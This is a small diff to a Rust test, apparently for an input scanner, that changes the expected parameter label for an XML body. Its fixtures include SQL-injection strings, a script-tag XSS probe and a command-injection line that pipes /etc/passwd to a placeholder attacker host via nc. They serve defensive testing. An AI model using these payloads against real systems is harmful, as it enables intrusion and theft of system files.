@@ -79,7 +79,7 @@ fn a_body_of_no_known_type_is_read_as_what_it_looks_like() {
             ("{\"a\": \"1' or '1'='1\"}", "json a"),
             ("[\"1' or '1'='1\"]", "json "),
             ("b=1&a=1%27+or+%271%27%3D%271", "form a"),
-            ("<r><a>1' or '1'='1</a></r>", "xml "),
+            ("<r><a>1' or '1'='1</a></r>", "xml a"),
             ("<script>alert(1)</script>", "text "),
             ("mutation { pay(to: \"1' or '1'='1\") { id } }", "json to"),
             ("; cat /etc/passwd | nc evil.example 4444", "text "),
